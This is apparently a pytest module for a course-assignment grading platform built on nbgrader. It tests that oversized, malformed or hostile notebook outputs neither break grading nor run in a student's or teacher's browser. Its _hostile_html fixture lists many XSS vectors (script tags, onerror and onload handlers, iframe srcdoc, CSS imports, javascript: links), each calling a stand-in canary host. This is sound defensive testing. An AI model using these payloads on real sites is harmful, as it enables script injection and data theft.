"""What notebooks put out that nobody expects: each is graded, and nothing of it runs in a reader's browser."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import nbformat
import pytest
from fastapi import FastAPI
from nbformat import NotebookNode
from nbgrader.api import Gradebook
from playwright.async_api import Route, async_playwright

from learnspace_assignments.exporter import SafeExporter
from learnspace_assignments.grading.feedback import feedback_page
from learnspace_assignments.grading.gradebook import CourseBook
from learnspace_core.database import Database
from learnspace_core.settings import Settings
from tests.conftest import as_person
from tests.integration.conftest import CHROMIUM
from tests.learnspace_assignments.conftest import Work
from tests.learnspace_assignments.doubling import ANSWER, GOOD, answered, grade, make_book, points

Client = Callable[[str], httpx.AsyncClient]
CANARY = "http://canary.test"
MEGABYTE = 1_000_000


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> CourseBook:
    return make_book(tmp_path_factory.mktemp("state"))


def _file_of(book: CourseBook) -> Path:
    return book.root / "autograded/amy/doubling/doubling.ipynb"


def _page_of(book: CourseBook) -> str:
    notebook = nbformat.read(_file_of(book), as_version=4)
    return feedback_page(notebook, "doubling", book.marks("doubling", "amy")[0], "Doubling")


PRINTED: dict[str, str] = {
    "a million output lines": "for n in range(1_000_000): print(n)",
    "a million lines below Python": "import os\nos.write(1, b'x\\n' * 1_000_000)",
    "invalid UTF-8": "import os, sys\nos.write(1, b'\\xff\\xfe\\x80')\nprint('\\udcff \\ud83d')\nos.write(2, b'\\xc3')",
    "signs of control": "print('a\\0b\\x1b[31m\\x07\\r\\u202e\\ufeff')",
    "a display that is none": "from IPython.display import display\ndisplay({'text/plain': 5, 'x': None}, raw=True)",
    "a name that is no type": "from IPython.display import display\ndisplay({'../../x': 'y', '': ''}, raw=True)",
    "a widget": (
        "from IPython.display import display\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x', 'version_major': 2}}, raw=True)"
    ),
    "a deep object": "deep = []\nfor n in range(100_000): deep = [deep]\ndel deep",
    "an exception that is not text": "class E(Exception):\n    def __str__(self): return b'\\xff'\nraise E",
    "a name of an exception that is long": "raise type('E' * 1_000_000, (Exception,), {})('x' * 1_000_000)",
}


@pytest.mark.parametrize("what", PRINTED)
def test_what_is_put_out_does_not_count_and_can_be_shown(book: CourseBook, tmp_path: Path, what: str) -> None:
    notebook = answered(book)
    notebook.cells[2].source = f"{ANSWER}\n\n{PRINTED[what]}"
    assert points(grade(book, json.dumps(notebook).encode(), tmp_path)) == GOOD
    # nbgrader's own limit for a cell is 1,000 lines of 5,000 characters.
    assert _file_of(book).stat().st_size < 6 * MEGABYTE
    assert "Doubling" in _page_of(book)


def test_images_of_50_megabytes_are_a_result_with_its_reason(book: CourseBook, tmp_path: Path) -> None:
    notebook = answered(book)
    draw = "import os\nfrom IPython.display import Image, display\nfor n in range(5):\n"
    notebook.cells[2].source = f"{ANSWER}\n\n{draw}    display(Image(data=os.urandom(10_000_000), format='png'))"
    marks = grade(book, json.dumps(notebook).encode(), tmp_path)
    assert points(marks) == {"double-tests": (0, False), "why": (0, True)}
    (question,) = [one for one in marks.questions if one.id == "double-tests"]
    assert question.messages == ["The notebook wrote more output than is allowed."]


def test_images_of_50_megabytes_that_stand_in_the_file_cost_nothing(book: CourseBook, tmp_path: Path) -> None:
    notebook = answered(book)
    image = base64.b64encode(bytes(5 * MEGABYTE)).decode()
    notebook.cells[2].outputs = [nbformat.v4.new_output("display_data", {"image/png": image}) for _ in range(7)]
    content = json.dumps(notebook).encode()
    assert len(content) > 46 * MEGABYTE
    assert points(grade(book, content, tmp_path)) == GOOD
    assert _file_of(book).stat().st_size < MEGABYTE


def test_widget_state(book: CourseBook, tmp_path: Path) -> None:
    notebook = answered(book)
    state = {f"model-{n}": {"model_name": "IntSliderModel", "state": {"value": n}} for n in range(1000)}
    kind = "application/vnd.jupyter.widget-state+json"
    for widgets in ({kind: {"state": state, "version_major": 2, "version_minor": 0}}, {kind: {}}, {}):
        notebook.metadata.widgets = widgets
        assert points(grade(book, json.dumps(notebook).encode(), tmp_path)) == GOOD
        assert "Doubling" in _page_of(book)


# --- HTML and JavaScript ----------------------------------------------------------------------------------------------


def _hostile_html() -> str:
    c = CANARY
    return f"""<script>fetch("{c}/script")</script><script src="{c}/src.js"></script><img src="{c}/img.png">
    <img src="x:" onerror="fetch('{c}/onerror')"><iframe src="{c}/frame"></iframe><iframe
    srcdoc="<script>fetch('{c}/in')</script>"></iframe>
    <link rel="stylesheet" href="{c}/link.css"><link rel="prefetch" href="{c}/pre"><style>@import
    "{c}/import.css"; body {{ background: url({c}/css.png) }}</style><p style="background:url({c}/style.png)">x</p>
    <svg onload="fetch('{c}/svg')"><script>fetch("{c}/svgscript")</script><image href="{c}/svgimage.png"/></svg>
    <object data="{c}/object"></object><embed src="{c}/embed"><video src="{c}/video" poster="{c}/poster"></video>
    <meta http-equiv="refresh" content="0;url={c}/meta"><base href="{c}/"><form action="{c}/form"><input autofocus
    onfocus="fetch('{c}/focus')"></form><math><mtext><img src=x: onerror="fetch('{c}/math')"></mtext></math>
    <details open ontoggle="fetch('{c}/toggle')"></details><a href="javascript:fetch('{c}/a')">a</a><audio src="{c}/au">
    <input type="image" src="{c}/input"><body background="{c}/body"><template><img src="{c}/template"></template>"""


def _hostile(notebook: NotebookNode) -> None:
    html = _hostile_html()
    shown = dict.fromkeys(("text/html", "text/markdown", "image/svg+xml", "text/latex", "text/plain"), html)
    scripts = {"application/javascript": f"fetch('{CANARY}/js')", "text/html": html}
    notebook.cells[1].source = (
        "from IPython.display import display\ndef double(x):\n    return x + x\n\n"
        f"for kind, what in {shown!r}.items():\n    display({{kind: what}}, raw=True)\n"
        f"display({scripts!r}, raw=True)\ndisplay({{'image/png': '\"><img src={CANARY}/png>'}}, raw=True)\n"
        f"print({html!r})\nraise type({html[:80]!r}, (Exception,), {{}})({html!r})"
    )
    notebook.cells[3].source = html
    notebook.metadata.title = html


def _policy(page: httpx.Response) -> dict[str, str]:
    return {name: page.headers[name] for name in ("content-security-policy", "x-content-type-options")}


async def _requests(html: str, headers: dict[str, str], *, framed: bool) -> list[str]:
    """Return what Chromium asks for besides the page itself."""
    asked: list[str] = []
    page_url = "http://learnspace.test/services/learnspace/feedback"

    async def answer(route: Route) -> None:
        if route.request.url == page_url and not asked:
            body = (
                f'<!doctype html><iframe sandbox="" srcdoc="{html.replace("&", "&amp;").replace(chr(34), "&quot;")}">'
            )
            await route.fulfill(body=body if framed else html, headers=headers, content_type="text/html; charset=utf-8")
            return
        asked.append(route.request.url)
        await route.abort()

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM)
        page = await browser.new_page()
        await page.route("**/*", answer)
        await page.goto(page_url, wait_until="load")
        await page.wait_for_load_state("networkidle")
        await browser.close()
    return [url for url in asked if not url.endswith("/favicon.ico")]


@pytest.mark.browser
@pytest.mark.parametrize("settings", ["sqlite"], indirect=True)
async def test_html_and_javascript_in_outputs_never_ask_for_the_canary(
    client: Client, released: Database, work: Work, settings: Settings, app: FastAPI, browser: httpx.AsyncClient
) -> None:
    url = "assignments/art/doubling"
    notebook = nbformat.reads((await client("amy").get(f"{url}/files/doubling.ipynb")).text, as_version=4)
    _hostile(notebook)
    body = nbformat.writes(notebook).encode()
    done = await client("amy").post(f"{url}/submissions", files=[("files", ("doubling.ipynb", body))])
    work.do("grade", usernames=None)
    with Gradebook(f"sqlite:///{settings.state}/courses/art/gradebook.db", "art") as gradebook:
        given = gradebook.find_grade("why", "doubling", "doubling", "amy")
        given.manual_score, given.needs_manual_grade = 1, False
        gradebook.find_comment("why", "doubling", "doubling", "amy").manual_comment = _hostile_html()
        gradebook.db.commit()
    work.do("return", usernames=None, teacher="ted")

    as_person(app, "amy")
    address = f"/submissions/{done.json()['submission']}/feedback"
    summary = await browser.get(address)
    asked = await _requests(summary.text, _policy(summary), framed=False)
    assert {url.rpartition("/")[0] for url in asked} == {"http://learnspace.test/services/learnspace/static"}
    page = await browser.get(f"{address}/doubling")
    assert page.status_code == 200
    assert "a/script" in page.text.replace("canary.test", "a"), "it is shown as text at least where it was printed"
    assert await _requests(page.text, _policy(page), framed=False) == []
    # In Lab it stands in a frame; there is no header then, but the document's own policy.
    assert await _requests(page.text, {}, framed=True) == []
    assert await _requests(page.text, {}, framed=False) == []

    # The harness sees what a page asks for: without our cleaning, the canary is asked at once.
    assert await _requests(_hostile_html(), {}, framed=False) != []


@pytest.mark.browser
async def test_the_teachers_formgrader_does_not_run_it_either(book: CourseBook, tmp_path: Path) -> None:
    notebook = answered(book)
    notebook.cells.pop(1)  # as in the course without the setup
    _hostile(notebook)
    grade(book, json.dumps(notebook).encode(), tmp_path)
    graded: Any = nbformat.read(_file_of(book), as_version=4)
    html, _ = SafeExporter().from_notebook_node(graded)
    assert [url for url in await _requests(str(html), {}, framed=False) if CANARY in url] == []
